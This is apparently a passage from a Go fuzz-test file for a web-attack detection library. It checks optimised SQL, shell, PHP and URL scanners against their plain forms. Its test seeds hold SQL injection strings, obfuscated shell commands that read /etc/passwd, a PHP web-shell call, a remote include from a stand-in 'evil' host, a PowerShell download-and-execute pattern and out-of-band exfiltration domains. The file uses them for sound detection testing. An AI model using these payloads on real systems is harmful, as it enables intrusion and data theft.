package signature

import (
	"bytes"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/bulwarkhq/bulwark/threat"
)

// The plain forms of scanners that were made faster: each Fuzz target
// checks that the fast form returns what the plain one does.

// phpObjectPlain is phpObject as first written: every byte a candidate.
func phpObjectPlain(lo []byte) int {
	for i := 0; i+4 < len(lo); i++ {
		c := lo[i]
		if (c != 'o' && c != 'a' && c != 'c') || lo[i+1] != ':' || (i > 0 && isWord(lo[i-1])) {
			continue
		}
		j := i + 2
		if j < len(lo) && (lo[j] == '+' || lo[j] == '-') {
			j++
		}
		k := j
		for k < len(lo) && lo[k] >= '0' && lo[k] <= '9' {
			k++
		}
		if k == j || k+1 >= len(lo) || lo[k] != ':' {
			continue
		}
		switch {
		case c == 'a' && lo[k+1] == '{':
			if k+2 < len(lo) && (lo[k+2] == 'i' || lo[k+2] == 's') && k+3 < len(lo) && lo[k+3] == ':' {
				return i
			}
		case (c == 'o' || c == 'c') && lo[k+1] == '"':
			return i
		}
	}
	return -1
}

func FuzzPHPObject(f *testing.F) {
	for _, s := range []string{`O:8:"stdClass":1:{`, `a:2:{i:0;`, `C:11:"ArrayObject"`, `x:1:"`, `o:1:`, `a:1:{s:`,
		`note: o:+1:"x" and a:-2:{i:`, "::::", "o:", "o:1", "ao:1:\"", `the "quoted": a:1:{i:`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		// s, and s after prose long enough for the colons' spots
		for _, v := range []string{s, "the note: a word or two (and more): of prose, then " + s} {
			lo := []byte(strings.ToLower(v))
			want := phpObjectPlain(lo)
			if got := phpObject(lo, nil); got != want {
				t.Fatalf("phpObject(%q) = %d, want %d", lo, got, want)
			}
			if got := phpObject(lo, &lazySpots{s: string(lo), c: ':'}); got != want {
				t.Fatalf("phpObject(%q) with the spots of its colons = %d, want %d", lo, got, want)
			}
		}
	})
}

// sqlLexer.next as first written: a switch for every byte.
func (lx *sqlLexer) nextPlain(i int) sqlTok {
	s := lx.s
	for i < len(s) {
		c := s[i]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\v' || c == '\f' || 0x01 <= c && c < 0x20:
			i++
			continue
		case c == 0xa0 && (i == 0 || s[i-1] < 0x80):
			i++ // a Latin-1 no-break space, not a UTF-8 continuation byte
			continue
		case c == '+' && i+1 < len(s) && isAlpha(s[i+1]):
			i++
			continue
		case c == '%' && i+2 < len(s) && encodedSpace(s[i+1], s[i+2]):
			i += 3 // %20, %09, %0a ... left encoded where nothing decodes (headers)
			continue
		case c == '/' && i+1 < len(s) && s[i+1] == '*':
			if i+2 < len(s) && s[i+2] == '!' {
				i += 3
				for k := 0; k < 6 && i < len(s) && isDigit(s[i]); k++ {
					i++
				}
				continue
			}
			if end := lx.commentEnd(i + 2); end >= 0 {
				i = end + 2
				continue
			}
			return sqlTok{kind: sComment, i: i, j: i + 2}
		case c == '*' && i+1 < len(s) && s[i+1] == '/':
			i += 2
			continue
		case c == '#' || c == '-' && i+1 < len(s) && s[i+1] == '-':
			if j := lx.lineCommentEnd(i); j > 0 {
				i = j // a line comment a line break ends, SQL after it
				continue
			}
		}
		break
	}
	if i >= len(s) {
		return sqlTok{kind: sEnd, i: len(s), j: len(s)}
	}
	c := s[i]
	t := sqlTok{i: i, j: i + 1}
	switch {
	case c == '\'' || c == '"' || c == '`':
		t.kind, t.id = sQuote, c
	case c == '(':
		t.kind = sOpen
	case c == ')':
		t.kind = sClose
	case c == ',':
		t.kind = sComma
	case c == ';':
		t.kind = sSemi
	case c == 0:
		t.kind = sNul
	case c == '#':
		t.kind = sComment
	case c == '-' && i+1 < len(s) && s[i+1] == '-':
		t.kind, t.j = sComment, i+2
	case c == '@':
		j := i + 1
		if j < len(s) && s[j] == '@' {
			j++
			t.id = 2
		}
		k := j
		for k < len(s) && (sqlWordBytePlain(s[k]) || s[k] == '.') {
			k++
		}
		if k > j {
			t.kind, t.j = sVar, k
		} else {
			t.kind, t.id = sOther, 0
		}
	case isDigit(c) || c == '.' && i+1 < len(s) && isDigit(s[i+1]):
		return lx.number(i)
	case sqlWordBytePlain(c):
		return lx.wordPlain(i)
	case c == '.':
		t.kind = sDot
	default:
		return lx.operator(i)
	}
	return t
}

func sqlWordBytePlain(c byte) bool { return isWord(c) || c == '$' || c >= 0x80 }

func (lx *sqlLexer) wordPlain(i int) sqlTok {
	s := lx.s
	j := i
	for j < len(s) && sqlWordBytePlain(s[j]) {
		j++
	}
	var buf [24]byte
	id := kwNone
	if w := s[i:j]; len(w) >= 2 && len(w) <= 24 {
		for k := 0; k < len(w); k++ {
			buf[k] = lowerTable[w[k]]
		}
		id = sqlWords[string(buf[:len(w)])]
		if id == kwNone && len(w) > 4 && (buf[0] == 'x' || buf[0] == 's') && buf[1] == 'p' && buf[2] == '_' {
			id = kwProc
		}
	}
	return sqlTok{kind: sWord, id: id, i: i, j: j}
}

// FuzzSQLLexer checks the lexer's tables against its first form, token by
// token over the whole value, and sqlWord's table against the map.
func FuzzSQLLexer(f *testing.F) {
	for _, s := range []string{"1' UNION SELECT username,password FROM users--", "admin'--", "a /*! 50000union*/ select",
		"x+or+1=1", "%20or%091=1", "\xa0or\xa01=1", "caf\xc3\xa9\xa0select", "/* open", "*/ or */", "@@version",
		"1e5union select", "XP_CMDSHELL", "sp_who", "it's 3pm; don't", "a\vb\fc", "$x$ or $$", "0x1fUnion"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		a, b := newSQLLexer(s), newSQLLexer(s)
		for pos, n := 0, 0; n <= len(s)+1; n++ {
			got, want := a.next(pos), b.nextPlain(pos)
			if got != want {
				t.Fatalf("next(%q, %d) = %+v, want %+v", s, pos, got, want)
			}
			if got.kind == sEnd {
				break
			}
			pos = got.j
		}
		for i := 0; i < len(s); i++ {
			for j := i + 1; j <= len(s) && j-i <= 25; j++ {
				w := s[i:j]
				want := sqlWords[string(lower(nil, w))]
				if got := sqlWord(w); got != want {
					t.Fatalf("sqlWord(%q) = %d, want %d", w, got, want)
				}
			}
		}
	})
}

func TestSQLWordTable(t *testing.T) {
	for w, id := range sqlWords {
		if got := sqlWord(strings.ToUpper(w)); got != id {
			t.Errorf("sqlWord(%q) = %d, want %d", strings.ToUpper(w), got, id)
		}
	}
}

// shellFoldPlain is shellFold as first written: a switch for every byte.
func shellFoldPlain(t *shellText, b []byte, v string) []byte {
	t.ifs, t.exp = -1, -1
	for i := 0; i < len(v); i++ {
		c := v[i]
		switch {
		case 'A' <= c && c <= 'Z':
			c += 'a' - 'A'
		case c == '\v' || c == '\f':
			b = append(b, ' ')
			continue
		case c == '\\' && i+1 < len(v) && isLetter(v[i+1]) && len(b) > 0 &&
			(b[len(b)-1] == '/' || isLetter(b[len(b)-1]) && t.n > 0 && t.n <= maxObf && int(t.obf[t.n-1]) == len(b)-1) &&
			ansiEscape(v[i:]) == 0:
			// "/\u\s\r/\b\i\n/\i\d": a backslash before each letter of a
			// path, which the shell takes out (commix's backslashes); it
			// starts after a '/' and goes on letter by letter
			t.mark(len(b))
			continue
		case c == 0x1b || c == '\\' && i+1 < len(v) && (v[i+1] == '0' || v[i+1] == 'x' || v[i+1] == 'e' || v[i+1] == 'u'):
			// a terminal escape sequence ("\033[2A", ESC [ 2 A) written
			// before a command to hide it from a log viewer
			if n := ansiEscape(v[i:]); n > 0 {
				i += n - 1
				continue
			}
		case c == '\'' || c == '"':
			if len(b) == 0 || !isAlnum(b[len(b)-1]) && b[len(b)-1] != '/' {
				break
			}
			j := i + 1
			pair := j < len(v) && v[j] == c
			if pair {
				j++
			}
			if j < len(v) && (isAlnum(v[j]) || v[j] == '/') {
				if pair || strings.IndexByte(v[j:min(len(v), j+12)], c) > 0 && !pairedAhead(v, j, c) {
					t.mark(len(b)) // "/e''tc", "c'a't": a shell joins the pieces
				}
				i = j - 1
				continue
			}
		case c == '^':
			if i+1 < len(v) && isLetter(v[i+1]) && (len(b) > 0 && isLetter(b[len(b)-1]) || caretChain(v[i:])) {
				t.mark(len(b))
				continue
			}
		case c == '`' && i+1 < len(v) && v[i+1] == '`' && emptyInWord(b, v, i+2):
			t.mark(len(b)) // "pi``ng": an empty substitution
			i++
			continue
		case c == '$' && i+1 < len(v):
			n := v[i+1]
			switch {
			case n == '(' && i+2 < len(v) && v[i+2] == ')' && emptyInWord(b, v, i+3):
				t.mark(len(b)) // "pi$()ng", "ping$()"
				i += 2
				continue
			case n == '\'':
				if d, end, ok := ansiCQuote(b, v, i); ok {
					t.mark(len(b)) // "$'\x63\x61\x74'": bash decodes its escapes
					b, i = d, end
					continue
				}
			case (n == '_' || isLetter(n)) && n != 'i' && n != 'I' && len(b) > 0 && isLetter(b[len(b)-1]):
				// "sh$XX -c", "uname$u -a": a variable at the end of a
				// command's name that a payload leaves unset, so that the
				// shell runs the name; "ar$a" alone, "hello$world" are words
				e := i + 2
				for e < len(v) && e-i < 24 && (isAlnum(v[e]) || v[e] == '_') {
					e++
				}
				if e < len(v) && (v[e] == ' ' || v[e] == '\t') && unsetAfterCommand(b, v, e) {
					t.mark(len(b))
					i = e - 1
					continue
				}
				if e+1 < len(v) && v[e] == '\\' && isLetter(v[e+1]) && joinsCommand(b, v, e) {
					// "w$u\hoami", "n$u\c": the name ends at a backslash
					// that escapes the word's next letter, the unset
					// variable between two pieces of one word
					t.mark(len(b))
					i = e - 1
					continue
				}
			case (n == '@' || n == '*' || n == '!' || '0' <= n && n <= '9') && (len(b) > 0 &&
				(isLetter(b[len(b)-1]) || t.n > 0 && t.n <= maxObf && int(t.obf[t.n-1]) == len(b)-1 && b[len(b)-1] == ' ') ||
				n > '9' && i+2 < len(v) && isLetter(v[i+2]) && wordStart(b)): // "/$@u$@sr", not "$5k"
				if n != '*' || i+2 < len(v) && isLetter(v[i+2]) {
					t.mark(len(b)) // "c$@at", "$IFS$9"
					i++
					continue
				}
			case n == 'i' || n == 'I':
				if i+3 < len(v) && strings.EqualFold(v[i+1:i+4], "ifs") && (i+4 == len(v) || !isAlnum(v[i+4])) {
					if t.ifs < 0 && !spacedWord(v, i, i+4) {
						t.ifs = len(b)
					}
					t.mark(len(b))
					b = append(b, ' ')
					i += 3
					continue
				}
			case n == '{':
				end := strings.IndexByte(v[i+2:min(len(v), i+40)], '}')
				if end < 0 {
					break
				}
				inner := v[i+2 : i+2+end]
				name, rest, _ := strings.Cut(inner, ":")
				switch {
				case strings.EqualFold(name, "ifs") || strings.HasPrefix(strings.ToLower(inner), "ifs%"):
					if t.ifs < 0 && !spacedWord(v, i, i+3+end) {
						t.ifs = len(b)
					}
					t.mark(len(b))
					b = append(b, ' ')
					i += 2 + end
					continue
				case rest == "" && isEnvName(inner) && !setVariables[strings.ToLower(inner)] && i+3+end < len(v) &&
					isLetter(v[i+3+end]) && (wordStart(b) || isLetter(b[len(b)-1])):
					// "${Nq}c${Nq}at", "/${xx}u${xx}sr": a variable left unset
					// between the letters of a command (commix's
					// uninitializedvariable)
					t.mark(len(b))
					i += 2 + end
					continue
				case patternRemoval(inner) && i+3+end < len(v) && (isAlnum(v[i+3+end]) || v[i+3+end] == '$'),
					rest != "" && isEnvName(name) && substringSpec(rest):
					// "${PATH%%u*}" (PATH with all from its first 'u' taken off;
					// commix's slash2env) and "${PATH:0:1}" both spell a "/"
					if t.exp < 0 {
						t.exp = len(b)
					}
					t.mark(len(b))
					b = append(b, '/')
					i += 2 + end
					continue
				}
			}
		case c == '{':
			// brace expansion: "{cat,/etc/passwd}"
			end := strings.IndexByte(v[i+1:min(len(v), i+200)], '}')
			if end > 0 {
				inner := v[i+1 : i+1+end]
				lead := strings.TrimLeft(inner, ",") // "{,ifconfig}" runs ifconfig
				k := strings.IndexByte(lead, ',')
				if k < 0 && len(lead) < len(inner) {
					k = len(lead)
				}
				if k > 0 && strings.IndexByte(inner, ' ') < 0 &&
					(commandClasses[strings.ToLower(lead[:k])] >= cmdName ||
						commandClasses[strings.ToLower(lead[:k])] != cmdUnknown && strings.ContainsAny(lead[k:], "/-$.")) {
					t.mark(len(b))
					for _, x := range []byte(inner) {
						if x == ',' {
							x = ' '
						} else if 'A' <= x && x <= 'Z' {
							x += 'a' - 'A'
						}
						b = append(b, x)
					}
					i += 1 + end
					continue
				}
			}
		}
		b = append(b, c)
	}
	return b
}

// urlFoldPlain is urlFold as first written: a switch for every byte.
func urlFoldPlain(buf []byte, v string) ([]byte, int) {
	exotic := 0
	for i := 0; i < len(v); i++ {
		c := v[i]
		switch {
		case 'A' <= c && c <= 'Z':
			buf = append(buf, c+'a'-'A')
			continue
		case c == '\\':
			buf = append(buf, '/')
			continue
		case c >= 0xE0 && c < 0xF0 && i+2 < len(v) && v[i+1]&0xC0 == 0x80 && v[i+2]&0xC0 == 0x80:
			r := rune(c&0x0F)<<12 | rune(v[i+1]&0x3F)<<6 | rune(v[i+2]&0x3F)
			if s, ok := enclosed(r); ok {
				buf = append(buf, s...)
				exotic++
				i += 2
				continue
			}
			if m, _ := lookalike(r); m != 0 {
				buf = append(buf, m)
				exotic++
				i += 2
				continue
			}
		}
		buf = append(buf, c)
	}
	return buf, exotic
}

// FuzzFolds checks shellFold and urlFold, which copy runs of plain bytes in
// one go, against their first forms, and the quad hash of one load against
// that of four bytes.
func FuzzFolds(f *testing.F) {
	for _, s := range []string{";c'a't /e''tc/pa''sswd", "/bin/c?t /e??/p?sswd", "cat$IFS/etc/passwd", "{cat,/etc/passwd}",
		"w^h^o^a^m^i", "c$@at", "${PATH:0:1}etc", "\x1b[2Aid", "\\033[2A", "HTTP://\xe2\x91\xa0\xe2\x91\xa1.X\\Y", "Mixed CASE text",
		"$(id)", "${IFS%??}x", "\xef\xbc\x8e\xef\xbc\x8f", "Plain ASCII Text Of Some Length, then a \\ and more",
		"Plain ASCII Text Of Some Length, then \xe2\x91\xa0 and more"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var a, b shellText
		got := shellFold(&a, nil, s)
		want := shellFoldPlain(&b, nil, s)
		if string(got) != string(want) || a.obf != b.obf || a.n != b.n || a.ifs != b.ifs || a.exp != b.exp {
			t.Fatalf("shellFold(%q) = %q %+v, want %q %+v", s, got, a, want, b)
		}
		ug, ue := urlFold(nil, s)
		uw, uwe := urlFoldPlain(nil, s)
		if string(ug) != string(uw) || ue != uwe {
			t.Fatalf("urlFold(%q) = %q %d, want %q %d", s, ug, ue, uw, uwe)
		}
		for i := 0; i+4 <= len(s); i++ {
			if quadHash32(binary.LittleEndian.Uint32([]byte(s[i:]))) != quadHash(s[i], s[i+1], s[i+2], s[i+3]) {
				t.Fatalf("quadHash32 differs at %d of %q", i, s)
			}
		}
	})
}

// FuzzLowerInto checks lowerInto, eight bytes at a time, against
// lowerTable, byte by byte, for strings and byte slices.
func FuzzLowerInto(f *testing.F) {
	f.Add("Hello, WORLD! @[`{ AZaz \x80\xc1\xdaZZZZZZZZZZZ")
	f.Add("\xff\xfe\x41\x5a\x40\x5b\x60\x7b\xc1\xda")
	f.Fuzz(func(t *testing.T, s string) {
		want := make([]byte, len(s))
		for i := 0; i < len(s); i++ {
			want[i] = lowerTable[s[i]]
		}
		got := make([]byte, len(s)+3)
		lowerInto(got, s)
		if string(got[:len(s)]) != string(want) {
			t.Fatalf("lowerInto(%q) = %q, want %q", s, got[:len(s)], want)
		}
		lowerInto(got, []byte(s))
		if string(got[:len(s)]) != string(want) {
			t.Fatalf("lowerInto([]byte(%q)) = %q, want %q", s, got[:len(s)], want)
		}
	})
}

// quadFindPlain is quadset.find as first written: the hash of four loads
// at every position.
func quadFindPlain(q *quadset, b []byte, bounded bool) (match, bool) {
	for i := 0; i+4 <= len(b); i++ {
		h := quadHash(b[i], b[i+1], b[i+2], b[i+3])
		if q.bits[h>>6]&(1<<(h&63)) == 0 {
			continue
		}
		// the keywords in their own order, not byFirst's (sorted by
		// second byte: atPair)
		for k, kw := range q.set.kws {
			j := i + len(kw)
			if j <= len(b) && string(b[i:j]) == string(kw) && (!bounded || boundary(b, i, j, kw)) {
				return match{k, i, j}, true
			}
		}
	}
	return match{}, false
}

// quadGroupsFindPlain is quadGroups.find as first written.
func quadGroupsFindPlain(g *quadGroups, b []byte, out []groupMatch) {
	left := len(out)
	q := g.q
	for i := 0; i+4 <= len(b) && left > 0; i++ {
		h := quadHash(b[i], b[i+1], b[i+2], b[i+3])
		if q.bits[h>>6]&(1<<(h&63)) == 0 {
			continue
		}
		for k, kw := range q.set.kws { // in their own order
			n := g.group[k]
			if out[n].ok {
				continue
			}
			j := i + len(kw)
			if j <= len(b) && string(b[i:j]) == string(kw) && (!g.bounded[n] || boundary(b, i, j, kw)) {
				out[n] = groupMatch{ok: true, k: g.local[k], i: i, j: j}
				left--
			}
		}
	}
}

// FuzzQuads checks the quad sets' rolling reads against their first form.
func FuzzQuads(f *testing.F) {
	for _, s := range []string{"java.lang.runtime.getruntime().exec(", "<?php system($_get['c']); ?>", "__proto__[x]=1",
		"constructor.prototype", "require('child_process').exec", "$_server", "eval(", "abc", "", "the quick brown fox"} {
		f.Add(s, false)
	}
	f.Fuzz(func(t *testing.T, s string, bounded bool) {
		b := []byte(strings.ToLower(s))
		for _, q := range []*quadset{phpWords, protoWords, javaClasses, phpGlobals} {
			gm, gok := q.find(b, bounded)
			wm, wok := quadFindPlain(q, b, bounded)
			if gm != wm || gok != wok {
				t.Fatalf("find(%q) = %v %v, want %v %v", b, gm, gok, wm, wok)
			}
		}
		var got, want [codeGroups]groupMatch
		codeWords.find(b, got[:])
		quadGroupsFindPlain(codeWords, b, want[:])
		if got != want {
			t.Fatalf("codeWords.find(%q) = %v, want %v", b, got, want)
		}
	})
}

// FuzzFindWrapper checks findWrapper against findAny over every wrapper.
func FuzzFindWrapper(f *testing.F) {
	for _, s := range []string{"php://filter/convert.base64-encode/resource=index", "ssh2.exec://x", "a: b ssh2.shell: zlib:x",
		"see file:/etc and ssh2.", "jar:http://x!/", "note: compress.zlib://x", "ssh2.ssh2.php:/"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		b := []byte(strings.ToLower(s))
		gm, gok := findWrapper(b)
		wm, wok := findAny(b, wrappers, false)
		if gm != wm || gok != wok {
			t.Fatalf("findWrapper(%q) = %v %v, want %v %v", b, gm, gok, wm, wok)
		}
	})
}

// excerptPlain is excerpt as first written, for strings.
func excerptPlain(s string, i, j, max int) string {
	if i < 0 {
		i = 0
	}
	if j > len(s) {
		j = len(s)
	}
	if i > len(s) {
		i = len(s)
	}
	if j < i {
		j = i
	}
	if j-i < max {
		pad := (max - (j - i)) / 2
		i -= pad
		if i < 0 {
			i = 0
		}
		j = i + max
		if j > len(s) {
			j = len(s)
		}
	} else {
		j = i + max
	}
	b := make([]byte, j-i)
	for k := i; k < j; k++ {
		c := s[k]
		if c < 0x20 || c >= 0x7f {
			c = '.'
		}
		b[k-i] = c
	}
	return string(b)
}

// FuzzExcerpt checks excerpt, of strings and byte slices, against its
// first form.
func FuzzExcerpt(f *testing.F) {
	f.Add("1' UNION SELECT\x00 password FROM users--", 3, 9, uint8(48))
	f.Add("short", -2, 40, uint8(32))
	f.Add(strings.Repeat("\xffab", 40), 10, 200, uint8(100))
	f.Fuzz(func(t *testing.T, s string, i, j int, max uint8) {
		if max == 0 {
			return // callers pass 32, 48 or 64
		}
		want := excerptPlain(s, i, j, int(max))
		if got := excerpt(s, i, j, int(max)); got != want {
			t.Fatalf("excerpt(%q, %d, %d, %d) = %q, want %q", s, i, j, max, got, want)
		}
		if got := excerpt([]byte(s), i, j, int(max)); got != want {
			t.Fatalf("excerpt([]byte(%q), %d, %d, %d) = %q, want %q", s, i, j, max, got, want)
		}
	})
}

// locationPlain is input.location as first written: one string
// concatenation a part.
func locationPlain(in *input) string {
	p := "param"
	if int(in.src) < len(locationPrefix) && locationPrefix[in.src] != "" {
		p = locationPrefix[in.src]
	}
	if in.name != "" {
		p += ":" + excerptPlain(in.name, 0, len(in.name), 64)
	}
	if in.via != "" {
		p += " (" + in.via + ")"
	}
	return p
}

// FuzzLocation checks location, built once in one buffer, against its
// first form, and asked twice.
func FuzzLocation(f *testing.F) {
	f.Add(uint8(threat.SourceQuery), "q", "")
	f.Add(uint8(threat.SourceHeader), "X-Search\x00\xff", "base64")
	f.Add(uint8(threat.SourceForm), strings.Repeat("n\x01", 70), "ibm037")
	f.Add(uint8(200), "", strings.Repeat("gzip, ", 40))
	f.Fuzz(func(t *testing.T, src uint8, name, via string) {
		in := input{src: threat.Source(src), name: name, via: via}
		want := locationPlain(&in)
		for k := 0; k < 2; k++ {
			if got := in.location(); got != want {
				t.Fatalf("location of %d %q %q = %q, want %q", src, name, via, got, want)
			}
		}
	})
}

// dotSlashRunPlain is dotSlashRun as first written: every byte.
func dotSlashRunPlain(b []byte) int {
	n := 0
	for i := 0; i+1 < len(b); i++ {
		if b[i] == '.' && b[i+1] == '/' && (i == 0 || b[i-1] == '/') {
			n++
		}
	}
	return n
}

func FuzzDotSlashRun(f *testing.F) {
	for _, s := range []string{"./././etc", "/./a/./", ".", "./", "a./b/./.", "..//./"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got, want := dotSlashRun([]byte(s)), dotSlashRunPlain([]byte(s)); got != want {
			t.Fatalf("dotSlashRun(%q) = %d, want %d", s, got, want)
		}
	})
}

// cursorFinders are the finders the families make cursors of.
var cursorFinders = []*byteFinder{styleBytes, sinkBytes, breakoutBytes, dotBytes, parenBytes, opFinder, includeAnchors,
	lineBreaks, shellSpecialFinder}

// FuzzNextByte checks nextByte, eight bytes at a time, against a plain
// search, from every offset.
func FuzzNextByte(f *testing.F) {
	f.Add("width: expression(alert(1)); @import 'x'")
	f.Add("a.b[c]=d&e(`f`)")
	f.Add("../..;/?*x && y || z;")
	f.Add("\x00\xff(((((((((((((((((")
	f.Fuzz(func(t *testing.T, s string) {
		for _, fd := range cursorFinders {
			for i := 0; i <= len(s); i++ {
				want := len(s)
				for k := i; k < len(s); k++ {
					if strings.IndexByte(string(fd.bytes), s[k]) >= 0 {
						want = k
						break
					}
				}
				if got := nextByte(fd.bytes, &fd.in, s, i); got != want {
					t.Fatalf("nextByte(%q, %q, %d) = %d, want %d", fd.bytes, s, i, got, want)
				}
			}
		}
	})
}

// FuzzSameBytes checks sameBytes against a byte loop. The input is
// written after n bytes of c, so that the fuzzer reaches the runs of
// hundreds of bytes that sameBytes compares a block at a time.
func FuzzSameBytes(f *testing.F) {
	f.Add(strings.Repeat("A", 70)+"B", byte('A'), uint16(0))
	f.Add("aaaaaaaab", byte('a'), uint16(0))
	f.Add("", byte(0), uint16(0))
	f.Add("B", byte('A'), uint16(64+2*256))
	f.Add("AAAB", byte('A'), uint16(64+3*256-2))
	f.Add("", byte('A'), uint16(4000))
	f.Fuzz(func(t *testing.T, tail string, c byte, n uint16) {
		s := strings.Repeat(string(c), int(n%5000)) + tail
		want := 0
		for want < len(s) && s[want] == c {
			want++
		}
		if got := sameBytes(s, c); got != want {
			t.Fatalf("sameBytes(%q, %q) = %d, want %d", s, c, got, want)
		}
	})
}

// countWordsPlain is the counting loop of rateCommands as first written.
func countWordsPlain(b []byte, counted, i, words int, plain bool) (int, bool) {
	for ; counted < i; counted++ {
		y := b[counted]
		if y == '\n' || y == '\r' {
			words, plain = 0, true
			continue
		}
		if y != ' ' && y != '\t' && !opByte[y] && (counted == 0 || b[counted-1] == ' ' || b[counted-1] == '\t') {
			words++
		}
		if y != ' ' && y != '\t' && !isLetter(y) {
			plain = false
		}
	}
	return words, plain
}

// FuzzCountWords checks countWords, a class a byte without branches,
// against the loop it replaces, from every pair of offsets of a value.
func FuzzCountWords(f *testing.F) {
	f.Add("ls -la | grep foo && echo done", 3, true)
	f.Add("a\tb  c\nd;e`f` $(g) x>y", 0, false)
	f.Add("\r\n  \t", 5, true)
	f.Fuzz(func(t *testing.T, s string, words int, plain bool) {
		b := []byte(s)
		for from := 0; from <= len(b) && from < 40; from++ {
			for to := from; to <= len(b); to++ {
				gw, gp := countWords(b, from, to, words, plain)
				ww, wp := countWordsPlain(b, from, to, words, plain)
				if gw != ww || gp != wp {
					t.Fatalf("countWords(%q, %d, %d, %d, %v) = %d %v, want %d %v", b, from, to, words, plain, gw, gp, ww, wp)
				}
			}
		}
	})
}

// FuzzLineWords checks lineWords, asked at offsets that only grow,
// against counting from the start with the plain loop: the same count
// and plainness up to two words, three or more otherwise.
func FuzzLineWords(f *testing.F) {
	f.Add("ls -la | grep foo && echo done", uint8(3))
	f.Add("a\tb  c\nd;e`f` $(g) x>y\r\n one two three four five; six", uint8(1))
	f.Add(strings.Repeat("word ", 40)+"\n x y\n", uint8(7))
	f.Fuzz(func(t *testing.T, s string, step uint8) {
		b := []byte(s)
		lw := newLineWords(b)
		for i := 0; i < len(b); i += int(step%9) + 1 {
			gw, gp := lw.at(i)
			ww, wp := countWordsPlain(b, 0, i, 0, true)
			if ww <= 2 && (gw != ww || gp != wp) || ww > 2 && gw < 3 {
				t.Fatalf("lineWords(%q).at(%d) = %d %v, want %d %v", b, i, gw, gp, ww, wp)
			}
		}
	})
}

// FuzzByteCursor checks byteCursor against a plain search, for queries
// that go forward and, now and then, back, on strings and byte slices,
// short (read with nextByte) and long.
func FuzzByteCursor(f *testing.F) {
	f.Add("width: expression(alert(1)); @import 'x'", uint64(0x123456789))
	f.Add(strings.Repeat("a.b[c]=d&e(`f`) ", 9), uint64(7))
	f.Add(strings.Repeat("x", 70)+"../..;/?*x && y || z;", uint64(1))
	f.Add("\x00\xff"+strings.Repeat("(", 80), uint64(0xffff))
	f.Fuzz(func(t *testing.T, s string, steps uint64) {
		plain := func(fd *byteFinder, i int) int {
			for k := max(i, 0); k < len(s); k++ {
				if fd.in[s[k]] {
					return k
				}
			}
			return len(s)
		}
		for _, fd := range cursorFinders {
			cs, cb := newCursor(fd, s), newCursor(fd, []byte(s))
			r := steps
			for i, n := 0, 0; i <= len(s)+1 && n < 4*len(s)+8; n++ {
				want := plain(fd, i)
				if got := cs.next(i); got != want {
					t.Fatalf("cursor(%q, %q).next(%d) = %d, want %d", fd.bytes, s, i, got, want)
				}
				if got := cb.next(i); got != want {
					t.Fatalf("cursor(%q, []byte(%q)).next(%d) = %d, want %d", fd.bytes, s, i, got, want)
				}
				i, r = nextQuery(i, want, r)
			}
		}
	})
}

// nextQuery returns a cursor fuzz target's next query after one at i that
// found want, and r moved on: the found byte's next offset as the
// families ask (half the time), or a step forward or back picked by r.
func nextQuery(i, want int, r uint64) (int, uint64) {
	switch r & 3 {
	case 0, 1:
		i = want + 1
	case 2:
		i += int(r>>2&15) + 1
	case 3:
		i -= int(r >> 2 & 15)
	}
	return i, r>>3 | r<<61
}

// FuzzASCIIWithout checks asciiWithout against a byte loop.
func FuzzASCIIWithout(f *testing.F) {
	f.Add("plain ascii prose, long enough for blocks", byte('\\'))
	f.Add("plain ascii prose\\ with a backslash", byte('\\'))
	f.Add("plain ascii prose \xe2\x91\xa0 and more", byte('\\'))
	f.Add("", byte(0))
	f.Fuzz(func(t *testing.T, s string, c byte) {
		want := true
		for i := 0; i < len(s); i++ {
			if s[i] >= 0x80 || s[i] == c {
				want = false
			}
		}
		if got := asciiWithout(s, c); got != want {
			t.Fatalf("asciiWithout(%q, %q) = %v, want %v", s, c, got, want)
		}
	})
}

// phpIncludePlain is phpInclude as first written: from each occurrence
// of the keywords.
func phpIncludePlain(lo []byte) (int, int) {
	for _, kw := range [...]string{"include", "require"} {
		for off := 0; off < len(lo); {
			k := indexRare(lo[off:], kw)
			if k < 0 {
				break
			}
			i := off + k
			off = i + len(kw)
			if i > 0 && isWord(lo[i-1]) {
				continue
			}
			j := off
			if bytes.HasPrefix(lo[j:], []byte("_once")) {
				j += 5
			}
			a := skipSpace(lo, j)
			if a == j || a >= len(lo) || lo[a] != '\'' && lo[a] != '"' {
				continue
			}
			for _, p := range [...]string{"http:", "https:", "ftp:", "php:", "data:", "expect:", "zip:", "phar:", "//", "\\\\"} {
				if bytes.HasPrefix(lo[a+1:], []byte(p)) {
					return i, a + 1 + len(p)
				}
			}
		}
	}
	return -1, -1
}

// FuzzPHPInclude checks phpInclude, read from the quotes, against the
// plain form.
func FuzzPHPInclude(f *testing.F) {
	for _, s := range []string{"include 'http://evil/x.txt';", "require_once  \"php://input\"", "x; require 'ftp:a' include\t'//b'",
		"include'http:", "xinclude 'http:", "_once 'http:", "include_once_once 'zip:", "it's include \"data:x\" and require 'phar:",
		"require 'http: include 'data:", "\\\\ include \t \"\\\\srv\"", "include \"expect:"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, v := range []string{s, "the note: a word or two (and more): of prose, then " + s} {
			lo := []byte(strings.ToLower(v))
			wi, wj := phpIncludePlain(lo)
			for _, colons := range []*lazySpots{nil, {s: string(lo), c: ':'}} {
				if gi, gj := phpInclude(lo, classify(string(lo)), colons); gi != wi || gj != wj {
					t.Fatalf("phpInclude(%q) = %d %d, want %d %d (spots %v)", lo, gi, gj, wi, wj, colons != nil)
				}
			}
		}
	})
}

// testNeedles mix needles found with indexPair, needles sharing a rare
// byte and needles of one rare byte.
var testNeedles = needlesOf("oast", "the", "ea", "x.y", "a.b", "..", "\x00\x00", "tt")

// FuzzNeedles checks needleSet.index, and indexIn given the value's
// classes, against indexRare for the needle sets of the families.
func FuzzNeedles(f *testing.F) {
	f.Add("x.oast.pro toast interact.sh dnslog.cn. ceye.io burpcollaborator.net")
	f.Add("iex(new-object net.webclient).downloadstring('x') -expression base64string bitstransfer")
	f.Add("toast the sea, x.y; a.b .. tt and the boast of oast.me: ttt\x00\x00")
